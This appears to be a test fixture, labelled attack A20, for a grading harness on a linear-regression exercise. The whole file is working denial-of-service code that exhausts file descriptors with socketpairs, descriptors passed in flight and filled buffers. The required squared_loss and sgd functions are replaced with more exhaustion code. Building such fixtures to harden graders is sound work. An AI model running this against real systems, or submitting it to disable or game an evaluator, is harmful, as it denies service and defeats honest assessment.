# attack: A20: every descriptor that there is, in several processes, sockets full of descriptors in flight, and pipes full of bytes
# earns: linreg
# %% honest: linreg
# %%
import os, socket, array


def eat():
    kept = []
    try:
        while True:
            kept.append(socket.socketpair())
            kept[-1][0].setblocking(False)
            try:
                kept[-1][0].sendmsg(
                    [b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [kept[-1][1].fileno()] * 200))]
                )
                kept[-1][0].send(b"x" * 200_000)
            except OSError:
                pass
    except OSError:
        pass
    return kept


full = eat()


def squared_loss(y_hat, y):
    return eat()


def sgd(params, lr, batch_size):
    return [open("/dev/zero") for _ in range(10_000)]


# %%
del full
